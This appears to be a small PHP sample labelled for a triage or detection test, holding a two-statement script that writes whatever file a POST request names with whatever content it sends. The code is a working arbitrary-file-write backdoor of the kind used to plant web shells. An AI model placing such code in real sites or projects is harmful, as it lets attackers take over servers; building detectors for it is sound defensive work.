<?php
// triage-expect: triage_php_write_request_to_file
// Writes any file the request names with the content it sends, in two statements.
if (!empty($_POST)) {
    $h = @fopen($_POST['to'], 'wb');
    echo fwrite($h, stripslashes($_POST['body'])) ? 'saved' : 'failed';
}
